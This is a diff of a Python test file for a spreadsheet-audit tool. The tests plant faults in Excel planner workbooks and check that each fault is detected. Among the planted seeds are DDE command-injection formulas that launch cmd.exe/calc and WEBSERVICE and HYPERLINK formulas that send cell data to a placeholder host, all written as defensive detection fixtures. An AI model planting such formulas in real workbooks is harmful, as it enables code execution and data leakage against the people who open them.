@@ -1,9 +1,10 @@
-"""Test `vram audit`: templates and ordinary workbooks pass, and each seeded fault fails only its own check."""
+"""Test `vram audit`: templates and ordinary workbooks pass, and each seeded fault is found by its own check only."""
 
 from __future__ import annotations
 
 import json
 import re
+from copy import deepcopy
 from dataclasses import replace
 from io import BytesIO
 from pathlib import Path
@@ -36,7 +37,7 @@ from workbook.cached_values import with_values
 from workbook.labels import LANGUAGES, Labels
 from workbook.package import rewritten
 from workbook.recalculation import computed_values
-from workbook.sheets import plan_inputs, scenarios
+from workbook.sheets import plan_inputs, prices, scenarios
 from workbook.template import build
 
 MODEL, USERS, OVERHEAD, WEIGHTS, KV, TOTAL, GPUS = (
@@ -50,9 +51,12 @@ FUNCTIONS = [function.name for function in declared_functions()]
 # `test_followable` has workbooks that fail these; one cell more cannot make a planner fail.
 ELSEWHERE = {"long_chains", "cells_behind"}
 
-SCENARIOS = 4  # of the small planner
-LAST = f"{GPUS}{scenarios.FIRST_ROW + SCENARIOS - 1}"
-FREE = "H5"  # on the Article sheet: a formula unlike its neighbours
+# Of the small planner.
+SCENARIOS = 4
+LAST_ROW = scenarios.FIRST_ROW + SCENARIOS - 1
+LAST, MODELS = f"{GPUS}{LAST_ROW}", f"Scenarios!{MODEL}{scenarios.FIRST_ROW}:{MODEL}{LAST_ROW}"
+SMALL_GPUS = {str(row["gpu"]) for row in scenarios.EXAMPLES}
+SMALL_OFFERS = [offer for offer in catalog_offers() if offer.gpu in SMALL_GPUS]
 
 
 def failing(path: Path, *, with_house: bool = True) -> dict[str, list[str]]:
@@ -70,14 +74,14 @@ def test_the_template_passes(whole_planner):
 # --- faults seeded into the template ---------------------------------------------------------------------------------
 
 
-def article(text: str, stored: str | None = "1", type_: str | None = None):
-    """Return a seed that writes a formula into a cell of the Article sheet."""
-    return lambda x: x.formula("Article", FREE, text, stored, type_)
+def article(cell: str, text: str, stored: str | None = "1", type_: str | None = None):
+    """Return a seed that writes a formula into a blank cell of the Article sheet, and its place."""
+    return lambda x: x.formula("Article", cell, text, stored, type_), f"Article!{cell}"
 
 
-def around(before: str, after: str, cell: str = FREE):
-    """Return a seed that adds text before and after the formula in a cell of the Article sheet."""
-    return lambda x: x.formula("Article", cell, before + x.formula_text("Article", cell) + after)
+def around(cell: str, before: str, after: str):
+    """Return a seed that adds text before and after the formula in a cell of the Article sheet, and its place."""
+    return lambda x: x.formula("Article", cell, before + x.formula_text("Article", cell) + after), f"Article!{cell}"
 
 
 def sheet(title: str, change):
@@ -128,10 +132,12 @@ def renamed(old: str, new: str):
 
 
 def name_text(name: str, text: str):
+    """Return a seed that changes what a defined name stands for, and its place."""
+
     def change(root) -> None:
         next(e for e in root.iter(MAIN + "definedName") if e.get("name") == name).text = text
 
-    return workbook(change)
+    return workbook(change), f"name {name}"
 
 
 def row(number: int, **values: str):
@@ -139,24 +145,25 @@ def row(number: int, **values: str):
 
 
 def format_of(title: str, address: str, **values: str):
-    """Return a seed that changes the format of a cell and of all cells that share it."""
+    """Return a seed that gives a cell a changed copy of its format."""
 
     def seed(x: Xlsx) -> None:
-        index = x.style_of(title, address)
-        x.edit("xl/styles.xml", lambda root: root.find(f"{MAIN}cellXfs")[index].attrib.update(values))
+        x.restyle(title, address, lambda own, _: own.attrib.update(values))
 
     return seed
 
 
 def white_text(x: Xlsx) -> None:
-    """Turn the grey text of the notes white."""
+    """Turn the grey text of a note white."""
 
-    def change(root) -> None:
-        for colour in root.find(f"{MAIN}fonts").iter(MAIN + "color"):
-            if colour.get("rgb") == "004D4D4D":
-                colour.set("rgb", "00FFFFFF")
+    def change(own, styles) -> None:
+        fonts = styles.find(f"{MAIN}fonts")
+        font = deepcopy(fonts[int(own.get("fontId"))])
+        font.find(f"{MAIN}color").set("rgb", "00FFFFFF")
+        own.set("fontId", str(len(fonts)))
+        fonts.append(font)
 
-    x.edit("xl/styles.xml", change)
+    x.restyle("About", "A2", change)
 
 
 def first_list(source: str):
@@ -191,8 +198,8 @@ def no_alternative_text(x: Xlsx) -> None:
 
 
 def two_cells_in_a_circle(x: Xlsx) -> None:
-    x.formula("Article", "H5", "H6*1")
-    x.formula("Article", "H6", "0+H5")
+    x.formula("Article", "G6", "G7*1")
+    x.formula("Article", "G7", "0+G6")
 
 
 def hidden_name(x: Xlsx) -> None:
@@ -203,14 +210,14 @@ def hidden_name(x: Xlsx) -> None:
     x.edit("xl/workbook.xml", hide)
 
 
-# (check, seed, a place that it names)
+# (check, seed, every place that it names)
 SEEDS = {
     "vba": ("macros", lambda x: x.add("xl/vbaProject.bin"), "xl/vbaProject.bin"),
     "vba under another name": ("macros", lambda x: x.add("docs/VBAPROJECT.bin"), "docs/VBAPROJECT.bin"),
     "Excel 4 macro": ("macros", lambda x: x.add("xl/macrosheets/sheet1.xml", b"<a/>"), "xl/macrosheets/sheet1.xml"),
-    "external formula": ("external_links", article("[1]Sheet1!$A$1"), "Article!H5"),
-    "external formula by path": ("external_links", article(r"'C:\[other.xlsx]Sheet 1'!$A$1"), "Article!H5"),
-    "external name": ("external_links", name_text("real_kv_gb", "[1]Sheet1!$A$1"), "name real_kv_gb"),
+    "external formula": ("external_links", *article("B5", "[1]Sheet1!$A$1")),
+    "external formula by path": ("external_links", *article("B7", r"'C:\[other.xlsx]Sheet 1'!$A$1")),
+    "external name": ("external_links", *name_text("real_kv_gb", "[1]Sheet1!$A$1")),
     "external part": ("external_links", external_part, "xl/externalLinks/externalLink1.xml"),
     "connection": ("outside_parts", lambda x: x.add("xl/connections.xml", b"<a/>"), "xl/connections.xml"),
     "ActiveX": ("outside_parts", lambda x: x.add("xl/activeX/activeX1.xml", b"<a/>"), "xl/activeX/activeX1.xml"),
@@ -220,15 +227,15 @@ SEEDS = {
         lambda x: x.add("customXml/item1.xml", b'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup"/>'),
         "customXml/item1.xml",
     ),
-    "DDE": ("injected_formulas", article("cmd|'/c calc'!A0"), "Article!H5"),
-    "DDE in a path": ("injected_formulas", article(r"MSEXCEL|'\..\..\cmd.exe /c calc'!''"), "Article!H5"),
-    "DDE in a name": ("injected_formulas", name_text("real_kv_gb", "cmd|'/c calc'!A0"), "name real_kv_gb"),
+    "DDE": ("injected_formulas", *article("B9", "cmd|'/c calc'!A0")),
+    "DDE in a path": ("injected_formulas", *article("B11", r"MSEXCEL|'\..\..\cmd.exe /c calc'!''")),
+    "DDE in a name": ("injected_formulas", *name_text("real_weights_gb", "cmd|'/c calc'!A0")),
     "DDE as text": ("injected_formulas", lambda x: x.text("Models", "B13", "@SUM(1)+cmd|'/c calc'!A0"), "Models!B13"),
     "formula as text": ("injected_formulas", lambda x: x.text("Models", "B13", "=1+1"), "Models!B13"),
-    "WEBSERVICE": ("injected_formulas", article('_xlfn.WEBSERVICE("http://x.example/"&A1)'), "Article!H5"),
-    "HYPERLINK": ("injected_formulas", article('HYPERLINK("http://x.example/?"&A1,"click")'), "Article!H5"),
-    "HYPERLINK, computed": ("injected_formulas", article('HYPERLINK(A1&"","click")'), "Article!H5"),
-    "unreadable": ("injected_formulas", article("SUM((1"), "Article!H5"),
+    "WEBSERVICE": ("injected_formulas", *article("B13", '_xlfn.WEBSERVICE("http://x.example/"&A1)')),
+    "HYPERLINK": ("injected_formulas", *article("B15", 'HYPERLINK("http://x.example/?"&A1,"click")')),
+    "HYPERLINK, computed": ("injected_formulas", *article("G9", 'HYPERLINK(A1&"","click")')),
+    "unreadable": ("injected_formulas", *article("G11", "SUM((1")),
     "hidden sheet": ("hidden", workbook(sheet_entry("Precisions", state="hidden")), "Precisions"),
     "very hidden sheet": ("hidden", workbook(sheet_entry("Precisions", state="veryHidden")), "Precisions"),
     "hidden row": ("hidden", sheet("Models", row(6, hidden="1")), "Models!6:6"),
@@ -236,13 +243,13 @@ SEEDS = {
     "hidden column": ("hidden", sheet("Models", attribute("cols/col", hidden="1")), "Models!A:A"),
     "column of no width": ("hidden", sheet("Models", attribute("cols/col", width="0")), "Models!A:A"),
     "hidden name": ("hidden", hidden_name, "addin_loaded"),
-    "no stored value": ("values_stored", article("1+1", None), "Article!H5"),
-    "error value": ("error_values", article("0+1", "#DIV/0!", "e"), "Article!H5"),
-    "broken name": ("names", name_text("real_kv_gb", "Article!#REF!"), "name real_kv_gb"),
-    "name of no sheet": ("names", name_text("real_kv_gb", "Gone!$A$1"), "name real_kv_gb"),
-    "unknown name": ("names", article("no_such_name+1"), "Article!H5"),
-    "unknown table column": ("names", article("SUM(Models[Gone])"), "Article!H5"),
-    "broken reference": ("names", article("#REF!+1"), "Article!H5"),
+    "no stored value": ("values_stored", *article("G13", "1+1", None)),
+    "error value": ("error_values", *article("G15", "0+1", "#DIV/0!", "e")),
+    "broken name": ("names", *name_text("exact_kv_gb", "Article!#REF!")),
+    "name of no sheet": ("names", *name_text("exact_weights_gb", "Gone!$A$1")),
+    "unknown name": ("names", *article("H8", "no_such_name+1")),
+    "unknown table column": ("names", *article("H10", "SUM(Models[Gone])")),
+    "broken reference": ("names", *article("H12", "#REF!+1")),
     "number in a table column": (
         "hard_coded",
         lambda x: x.number("Scenarios", f"{WEIGHTS}9", 140),
@@ -272,18 +279,18 @@ SEEDS = {
         lambda x: x.formula("Sensitivity", "C32", "ROUNDUP(C16/$B$8-10^-9,0)"),
         "Sensitivity!C32",
     ),
-    "NOW": ("volatile", article("NOW()"), "Article!H5"),
-    "OFFSET": ("volatile", article("SUM(OFFSET(A1,1,0))"), "Article!H5"),
-    "INDIRECT in a name": ("volatile", name_text("real_kv_gb", 'INDIRECT("A1")'), "name real_kv_gb"),
-    "whole column": ("whole_columns", article("SUM(Models!D:D)"), "Article!H5"),
-    "whole row": ("whole_columns", article("SUM(Models!$5:$6)"), "Article!H5"),
-    "circle": ("circular", two_cells_in_a_circle, "Article!H6"),
-    "circle within a range": ("circular", article("SUM(H4:H7)"), "Article!H5"),
-    "circle of names": ("circular", name_text("real_kv_gb", "real_kv_gb"), "name real_kv_gb"),
+    "NOW": ("volatile", *article("H14", "NOW()")),
+    "OFFSET": ("volatile", *article("B6", "SUM(OFFSET(A1,1,0))")),
+    "INDIRECT in a name": ("volatile", *name_text("exact_overhead_gb", 'INDIRECT("A1")')),
+    "whole column": ("whole_columns", *article("B8", "SUM(Models!D:D)")),
+    "whole row": ("whole_columns", *article("B10", "SUM(Models!$5:$6)")),
+    "circle": ("circular", two_cells_in_a_circle, "Article!G6", "Article!G7"),
+    "circle within a range": ("circular", *article("B12", "SUM(B11:B13)")),
+    "circle of names": ("circular", *name_text("exact_total_gb", "exact_total_gb")),
     "iteration": ("circular", workbook(attribute("calcPr", iterate="1")), "workbook"),
-    "empty list": ("lists", sheet("Scenarios", first_list("$ZX$1:$ZX$3")), f"Scenarios!{MODEL}7"),
+    "empty list": ("lists", sheet("Scenarios", first_list("$ZX$1:$ZX$3")), MODELS),
     "list of a broken name": ("names", sheet("Scenarios", first_list("#REF!")), f"validation of Scenarios!{MODEL}7"),
-    "list of no choices": ("lists", sheet("Scenarios", first_list('","')), f"Scenarios!{MODEL}7"),
+    "list of no choices": ("lists", sheet("Scenarios", first_list('","')), MODELS),
     "input out of bounds": ("inputs_valid", lambda x: x.number("Article", "E10", 1.5), "Article!E10"),
     "input not in the list": (
         "inputs_valid",
@@ -309,7 +316,7 @@ SEEDS = {
         "Checks!B5",
     ),
     "checks not shown": ("master_check", lambda x: x.formula("Plan", "O1", '"fine"', "fine", "str"), "Plan"),
-    "unknown function": ("functions", article("0+BDP(1)"), "Article!H5"),
+    "unknown function": ("functions", *article("B14", "0+BDP(1)")),
     "a check of a cell with itself": (
         "checks_can_fail",
         lambda x: x.formula("Checks", "B9", "IF(Article!$E$19=Article!E19,1,0)"),
@@ -318,19 +325,24 @@ SEEDS = {
     "a check of nothing": ("checks_can_fail", lambda x: x.formula("Checks", "B9", "IF(1=1,1,0)"), "Checks!B9"),
     "old prices": (
         "stale_inputs",
-        lambda x: x.number("Plan", plan_inputs.cell("plan_date"), 49_310),
-        "Prices!",
-    ),  # 2035-01-01
-    "a function of 2013": ("functions_2010", article("_xlfn.DAYS(0,1)"), "Article!H5"),
-    "a long formula": ("long_formulas", article("+".join("0" * 101)), "Article!H5"),
-    "nested IFs": ("nested_ifs", article("IF(1,IF(1,IF(1,IF(1,1,0),0),0),0)"), "Article!H5"),
-    "nine references": ("many_references", article("+".join(f"B{row}" for row in range(10, 19))), "Article!H5"),
-    "constant": ("constants", around("", "*1.1"), "Article!H5"),
-    "per cent": ("constants", around("", "*1%"), "Article!H5"),
-    "a power that is no unit": ("constants", around("", "+10^2"), "Article!H5"),
-    "IFERROR": ("iferror_round", around("IFERROR(", ",0)"), "Article!H5"),
-    "ROUND": ("iferror_round", around("ROUND(", ",0)"), "Article!H5"),
-    "add-in function": ("headlines", around("", "*VRAM_WEIGHTS(1)", "H23"), "name real_total_gb"),
+        lambda x: x.number("Plan", plan_inputs.cell("plan_date"), 49_310),  # 2035-01-01
+        *(f"Prices!{prices.letter('date')}{prices.FIRST_ROW + number}" for number in range(len(SMALL_OFFERS))),
+    ),
+    "a function of 2013": ("functions_2010", *article("B16", "_xlfn.DAYS(0,1)")),
+    "a long formula": ("long_formulas", *article("G16", "+".join("0" * 101))),
+    "nested IFs": ("nested_ifs", *article("C16", "IF(1,IF(1,IF(1,IF(1,1,0),0),0),0)")),
+    "nine references": ("many_references", *article("E16", "+".join(f"D{row}" for row in range(5, 14)))),
+    "constant": ("constants", *around("H5", "", "*1.1")),
+    "per cent": ("constants", *around("H6", "", "*1%")),
+    "a power that is no unit": ("constants", *around("H7", "", "+10^2")),
+    "IFERROR": ("iferror_round", *around("H28", "IFERROR(", ",0)")),
+    "ROUND": ("iferror_round", *around("H31", "ROUND(", ",0)")),
+    "add-in function": (
+        "headlines",
+        around("H23", "", "*VRAM_WEIGHTS(1)")[0],
+        "name real_overhead_gb",
+        "name real_total_gb",
+    ),
     "rule without a title": (
         "inputs_validated",
         sheet("Sensitivity", attribute("dataValidation", promptTitle=None)),
@@ -351,7 +363,7 @@ SEEDS = {
         f"Scenarios!{OVERHEAD}7",
     ),
     "white on white": ("contrast", white_text, "About!A2"),
-    "no alternative text": ("alternative_texts", no_alternative_text, "xl/drawings/drawing1.xml"),
+    "no alternative text": ("alternative_texts", no_alternative_text, "xl/drawings/drawing1.xml: Chart 1"),
     "merged": ("merged", sheet("Article", merged), "Article!B5:B6"),
     "portrait": ("print", sheet("Models", attribute("pageSetup", orientation="portrait")), "Models"),
     "no footer": ("print", sheet("Models", removed("headerFooter")), "Models"),
@@ -375,13 +387,12 @@ def small_planner() -> bytes:
 def build_small(language: str) -> bytes:
     """Build the template with fewer models, GPUs and scenarios: an audit of it takes a fraction of the time."""
     rows = scenarios.default_rows(Labels(language))[:SCENARIOS]
-    gpus = {str(row["gpu"]) for row in scenarios.EXAMPLES}
-    bought = [gpu for gpu in catalog.gpus() if gpu.name in gpus]
+    bought = [gpu for gpu in catalog.gpus() if gpu.name in SMALL_GPUS]
     with pytest.MonkeyPatch.context() as patch, few({str(row["model"]) for row in scenarios.EXAMPLES}):
         patch.setattr(scenarios, "MOST_SCENARIOS", SCENARIOS)
         for sheet in ("gpus", "capacity"):
             patch.setattr(f"workbook.sheets.{sheet}.gpus_with_slices", lambda: tuple(bought))
-        return build(language, rows, offers=[offer for offer in catalog_offers() if offer.gpu in gpus])[0]
+        return build(language, rows, offers=SMALL_OFFERS)[0]
 
 
 @pytest.mark.parametrize("language", LANGUAGES)
@@ -391,18 +402,30 @@ def test_the_small_planner_passes(tmp_path, language):
     assert failing(path) == {}
 
 
-@pytest.mark.parametrize("name", SEEDS)
-def test_each_fault_is_caught_by_its_check_alone(small_planner, tmp_path, name):
-    check, seed, place = SEEDS[name]
+# A planner with each of the faults takes long to audit, so a planner has many of them, except those that rename a sheet.
+# Faults that follow each other in the list, which may be in the same place, are in different planners.
+RENAMED = ["neither Plan nor About", "no Changes sheet"]
+OTHERS = [name for name in SEEDS if name not in RENAMED]
+PLANNERS = [*([name] for name in RENAMED), *(OTHERS[number::6] for number in range(6))]
+# What is true of a fault besides: Excel 2013 brought the function; the page is narrower.
+BESIDES = {"WEBSERVICE": {("functions_2010", "Article!B13")}, "portrait": {("small_print", "Models")}}
+
+
+@pytest.mark.parametrize("names", PLANNERS, ids=lambda names: names[0])
+def test_each_fault_is_found_by_its_check_alone(small_planner, tmp_path, names):
     x = Xlsx(small_planner)
-    seed(x)
+    expected = {}
+    for name in names:
+        check, seed, *places = SEEDS[name]
+        seed(x)
+        expected[name] = {(check, place) for place in places} | BESIDES.get(name, set())
     path = tmp_path / "seeded.xlsx"
     path.write_bytes(x.content)
-    found = failing(path)
-    found.pop("functions_2010", None) if name == "WEBSERVICE" else None  # Excel 2013 brought it
-    found.pop("small_print", None) if name == "portrait" else None  # the page is narrower
-    assert list(found) == [check], found
-    assert any(fault.split(" (")[0].startswith(place) for fault in found[check]), found
+    results = audit(path, add_in_functions=FUNCTIONS).results
+    found = {(result.check.key, fault.place) for result in results for fault in result.faults}
+    assert {name: places - found for name, places in expected.items() if places - found} == {}
+    assert found == set.union(*expected.values())
+    assert len(found) == sum(map(len, expected.values())), "two faults have the same place"
 
 
 def test_every_check_has_a_seed():
